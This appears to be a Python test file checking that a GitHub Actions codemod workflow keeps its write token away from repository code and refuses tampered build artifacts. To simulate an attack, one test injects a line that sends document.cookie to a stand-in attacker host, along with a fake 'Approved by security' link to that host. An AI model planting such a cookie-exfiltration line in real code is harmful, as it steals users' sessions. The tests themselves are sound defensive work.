"""The example workflow's two jobs run as a runner runs them
(tests/workflow_run.py), with canaries committed in the repository
(tests/workflow_canary.py): the write token reaches nothing of the
repository's, the job that runs the repository's code holds no write
token, and the publish job pushes only the tool's own work."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

from . import workflow_canary
from .canary import executable
from .gitrepo import BOT, git, with_remote
from .publish_support import EVIL, append, holds, tampered
from .workflow_run import READ_TOKEN, WRITE_TOKEN, Runner

BRANCH = "codemod/app-state"


def test_the_example_workflow_with_canaries_shows_the_write_token_to_nothing(tmp_path: Path) -> None:
    found = workflow_canary.run(tmp_path)
    build, publish = found["jobs"]
    assert build.ok and publish.ok, [(s.name, s.exit, s.stderr[-500:]) for s in build.steps + publish.steps]
    # the job that runs the repository's code has read permissions and no write token
    assert build.permissions == {"contents": "read"}
    assert publish.permissions == {"contents": "write", "pull-requests": "write"}
    # the canaries ran where the repository's code runs: the install step,
    # the checkout's Biome and tests; their GITHUB_PATH and GITHUB_ENV
    # reached the build job's later steps (which hold no token)
    assert {"ancestors-step", "ancestors-check", "late-check", "evil-git", "bash-env"} <= {
        name.split(".")[0] for name in found["logs"]
    }
    assert found["seen"][WRITE_TOKEN] == [], found["seen"]
    # no json.py was imported: Python runs isolated, outside the checkout
    assert not [name for name in found["logs"] if name.startswith("json-py")]
    # nothing a check left behind outlived it: not one of them was left for
    # the runner's end-of-job cleanup; nothing is alive now
    checks = [pid for pid, origin in found["scanners"].items() if origin == "check"]
    assert checks and not set(checks) & set(build.killed)
    assert found["alive"] == []
    # the token reached git's network calls alone, in the publish job
    assert {sub for sub, mark in found["git_calls"] if mark == "token"} <= {"ls-remote", "fetch", "push"}
    # the publishing process (publish, open-pr) started git and gh, nothing else
    assert set(found["publishing_programs"]) == {"git", "gh"}, found["publishing_programs"]
    # the publish job pushed the build's branch and opened the PR
    assert found["remote_branch"] == found["manifest"]["tip"]
    assert [(p["number"], p["state"]) for p in found["pulls"]] == [(1, "open")]


def _runner(tmp: Path, remote: Path, **build_inputs: str) -> Runner:
    path_dir = tmp / "bin"
    path_dir.mkdir(parents=True)
    shutil.copy(workflow_canary.FAKES / "gh", path_dir / "gh")
    executable(path_dir / "bun", "#!/usr/bin/env bash\nexit 0\n")
    github = tmp / "github.json"
    github.write_text(json.dumps({"repo": "decocms/mesh", "pulls": [], "comments": {}, "calls": []}))
    return Runner(tmp, remote, path_dir, extra_env={"FAKE_GH_STATE": str(github)},
                  with_inputs={"mesh-codemod": {"author": BOT, **build_inputs}, "mesh-codemod/publish": {"author": BOT}})


def test_a_compromised_build_jobs_branch_never_reaches_the_remote(tmp_path: Path) -> None:
    """The build job runs the repository's code, so its artifact is not
    trusted: a line added to the tool's file, under the tool's name and
    trailers, with the bundle and manifest made to match, and a PR body of
    its own: the publish job pushes its own series, opens the PR with its
    own body, and says in the job summary that the build's layout was not
    used."""
    remote, work = with_remote(tmp_path)
    runner = _runner(tmp_path, remote, **{"require-checks": "false"})
    jobs = runner.workflow["jobs"]
    build = runner.run_job("build", jobs["build"])
    assert build.ok
    artifact = runner.artifacts / "mesh-codemod-artifact"
    honest = json.loads((artifact / "manifest.json").read_text())["tip"]
    built = tmp_path / "job-build" / "workspace"
    tampered(built, artifact, append("apps/mesh/src/mcp-apps/app-state.ts",
                                     f'fetch("https://{EVIL}/" + document.cookie);\n'))
    (artifact / "body.md").write_text(f"[Approved by security](https://{EVIL})\n")
    (artifact / "report.json").write_text(json.dumps({"left_alone": [{"path": "x", "why": f"[x](https://{EVIL})"}]}))
    publish = runner.run_job("publish", jobs["publish"])
    assert publish.ok, [(s.name, s.exit, s.stderr[-500:]) for s in publish.steps]
    assert git(remote, "rev-parse", f"refs/heads/{BRANCH}").strip() == honest
    assert not holds(remote, EVIL.encode())
    pulls = json.loads((tmp_path / "github.json").read_text())["pulls"]
    assert [p["number"] for p in pulls] == [1] and EVIL not in pulls[0]["body"] + pulls[0]["title"]
    summary = (publish.temp / "_github_step_summary").read_text()
    outputs = [p.read_text() for p in publish.temp.glob("_output_*")]
    assert "was not used" in summary and EVIL not in summary + "".join(outputs), summary


def test_the_build_job_requires_the_checks_unless_told_not_to(tmp_path: Path) -> None:
    """Nothing installed: by default the build job stops with exit 4 and
    the publish job does not run; `require-checks: false` reports the
    checks as not available and the branch is published."""
    remote, _ = with_remote(tmp_path / "a")
    strict = _runner(tmp_path / "a", remote).run()
    assert [j.name for j in strict] == ["build"]
    assert next(s for s in strict[0].steps if s.name == "Build and verify the branch").exit == 4
    lenient = _runner(tmp_path / "b", remote, **{"require-checks": "false"}).run()
    assert [j.name for j in lenient] == ["build", "publish"] and all(j.ok for j in lenient)
    assert git(remote, "for-each-ref", "--format=%(refname)", f"refs/heads/{BRANCH}").strip() == f"refs/heads/{BRANCH}"
    assert READ_TOKEN != WRITE_TOKEN


def test_a_tampering_formatter_in_the_build_job_reaches_nothing_of_the_remote(tmp_path: Path) -> None:
    """The checkout's Biome (installed by the build job) adds a line that
    sends the page's cookies away: the build lays the files out itself, and
    the branch the publish job pushes has no such line."""
    from .test_formatter import TAMPERER

    remote, _ = with_remote(tmp_path)
    runner = _runner(tmp_path, remote, **{"require-checks": "false"})
    # it tampers when asked to write (the formatter pass), and passes a check
    tamperer = executable(tmp_path / "tamperer", TAMPERER.replace(
        "for f in", 'case " $* " in *" --write "*) ;; *) exit 0 ;; esac\nfor f in', 1))
    executable(runner.path_dir / "bun", f"""#!/usr/bin/env bash
if [ "$1" = install ]; then mkdir -p node_modules/.bin && ln -sf "{tamperer}" node_modules/.bin/biome; exit 0; fi
exec "{workflow_canary.FAKES / 'bun'}" "$@"
""")
    jobs = runner.run()
    assert [j.ok for j in jobs] == [True, True], [(s.name, s.exit, s.stderr[-300:]) for j in jobs for s in j.steps]
    files = git(remote, "ls-tree", "-r", "--name-only", f"refs/heads/{BRANCH}").split()
    assert files
    for path in files:
        assert "attacker.example" not in git(remote, "show", f"refs/heads/{BRANCH}:{path}"), path
    report = json.loads((tmp_path / "job-build" / "temp" / "mesh-codemod-artifact" / "report.json").read_text())
    layouts = {f["path"]: f["layout"] for f in report.get("files", []) if "layout" in f}
    allowed = ("biome changed more than the layout of the tool's output", "biome agrees with the built-in layout")
    assert layouts and all(l["reason"] in allowed for l in layouts.values()), layouts
    # the Biome ran, and was turned down
    assert any(l["reason"] == "biome changed more than the layout of the tool's output" for l in layouts.values())
